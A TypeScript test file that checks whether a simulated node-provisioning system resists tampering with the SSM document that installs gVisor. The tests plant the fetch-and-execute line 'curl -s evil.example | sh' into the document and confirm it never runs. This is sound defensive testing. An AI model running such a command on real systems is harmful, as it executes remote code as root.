import { describe, expect, it } from 'vitest';
import { ModelledMachine } from '../../packages/lab/machines.ts';
import type { Simulation } from '../../packages/lab/simulation.ts';
import type { Script } from '../../packages/local-aws/agent.ts';
import { AwsError } from '../../packages/local-aws/aws.ts';
import { commandsFor, launch, settle, startSimulation, taintsOf } from '../scenarios/scenario.ts';
import { answerTo, attackerWith } from './attacker.ts';

const planted = 'curl -s evil.example | sh';

/** A simulation whose machines record every script they are given. */
async function watchedWorld(): Promise<{ world: Simulation; scripts: string[] }> {
  const scripts: string[] = [];
  class Watched extends ModelledMachine {
    override run(script: Script) {
      scripts.push(script.text);
      return super.run(script);
    }
  }
  return { world: await startSimulation([], async () => new Watched()), scripts };
}

/** The document that installs gVisor, with the attacker's line at the start. */
function changed(world: Simulation): { Name: string; Content: string } {
  const found = world.services.ssm.documents().find(({ name }) => name.startsWith('airlock-gvisor-install-'));
  if (found === undefined) throw new Error('no document installs gVisor');
  const content = structuredClone(found.content);
  const [step] = content.mainSteps;
  const lines = step?.inputs['runCommand'] as string[];
  lines.unshift(planted);
  return { Name: found.name, Content: JSON.stringify(content) };
}

/** The attacker has rights only on documents. A document runs as root on every new node. */
describe('a document', () => {
  it('that was updated to another default version does not run: nodes get the deployed version', async () => {
    const { world, scripts } = await watchedWorld();
    const attacker = attackerWith(world, 'ssm:UpdateDocument', 'ssm:UpdateDocumentDefaultVersion');
    const { Name, Content } = changed(world);
    expect(await answerTo(world, attacker, 'ssm', 'UpdateDocument', { Name, Content })).toBeUndefined();
    const standard = { Name, DocumentVersion: '2' };
    expect(await answerTo(world, attacker, 'ssm', 'UpdateDocumentDefaultVersion', standard)).toBeUndefined();
    expect(JSON.stringify(world.services.ssm.documents())).toContain(planted);

    const node = await launch(world);
    await settle(world);
    expect(world.report(node).outcome).toBe('released');
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((text) => text.includes(planted))).toEqual([]);
  });

  it('that was deleted and recreated with a different text runs nowhere, and the node keeps its gate', async () => {
    const { world, scripts } = await watchedWorld();
    const attacker = attackerWith(world, 'ssm:DeleteDocument', 'ssm:CreateDocument');
    const { Name, Content } = changed(world);
    expect(await answerTo(world, attacker, 'ssm', 'DeleteDocument', { Name })).toBeUndefined();
    const again = { Name, Content, DocumentType: 'Command', DocumentFormat: 'JSON' };
    expect(await answerTo(world, attacker, 'ssm', 'CreateDocument', again)).toBeUndefined();

    const node = await launch(world);
    await settle(world);
    expect(world.report(node)).toMatchObject({
      outcome: 'document-changed',
      detail: expect.stringContaining('does not match Sha256'),
    });
    expect(scripts).toEqual([]);
    expect(commandsFor(world, node)).toBe(0);
    expect(taintsOf(world, node)).toEqual(['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
  });

  it('that is missing for a moment, for instance during a deployment, is requested again', async () => {
    const { world } = await watchedWorld();
    let refused = 0;
    world.cloud.faults = {
      beforeCall: ({ operation }) =>
        operation === 'SendCommand' && refused++ === 0
          ? new AwsError('InvalidDocument', 'Document with name airlock-gvisor-install does not exist.')
          : undefined,
    };
    const node = await launch(world);
    await settle(world);
    expect(world.report(node).outcome).toBe('released');
  });
});
